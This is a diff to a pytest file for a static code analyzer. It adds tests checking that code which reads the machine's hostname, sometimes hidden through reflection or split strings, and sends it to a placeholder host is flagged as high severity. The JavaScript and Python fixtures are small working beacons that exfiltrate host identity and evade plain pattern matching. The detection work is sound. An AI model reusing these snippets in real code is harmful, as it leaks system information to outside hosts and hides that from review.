@@ -1,4 +1,4 @@
-"""world-writable-permissions: the `bits` fact condition and octal literals of Go, PHP and Ruby."""
+"""Behaviour rules of session 5 (langs): world-writable modes (`bits`, octal literals), reflected host identity sent."""
 from __future__ import annotations
 
 import pytest
@@ -43,3 +43,21 @@ def test_a_mode_held_in_a_variable_or_written_in_any_octal_form(path, code):
     line = code.count("\n", 0, code.index("hmod"))
     assert found(path, code) == [(line + 1, "world-writable-permissions", "high")]
     assert found("tests/" + path, code) == [(line + 1, "world-writable-permissions", "medium")]
+
+
+@pytest.mark.parametrize("path, code, line", [
+    ("a.js", "const os = require('os');\nconst https = require('https');\nconst h = Reflect.get(os, 'hostname')();\n"
+             "https.request({hostname: 'c.example.net', path: '/?h=' + h}).end();\n", 4),
+    ("a.py", "import socket, requests\nh = getattr(socket, 'gethost' + 'name')()\n"
+             "requests.post('https://c.example.net/b', data={'h': h})\n", 3),
+])
+def test_host_identity_read_through_reflection_and_sent_is_high(path, code, line):
+    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
+    got = {(f.line, f.severity) for f in analyzer.analyze(Document(path=path, content=code.encode())).findings
+           if f.rule_id == "host-identity-sent-over-network"}
+    assert got == {(line, "high")}
+    plain = code.replace("Reflect.get(os, 'hostname')()", "os.hostname()").replace(
+        "getattr(socket, 'gethost' + 'name')()", "socket.gethostname()")
+    got = {(f.line, f.severity) for f in analyzer.analyze(Document(path=path, content=plain.encode())).findings
+           if f.rule_id == "host-identity-sent-over-network"}
+    assert got == {(line, "medium")}
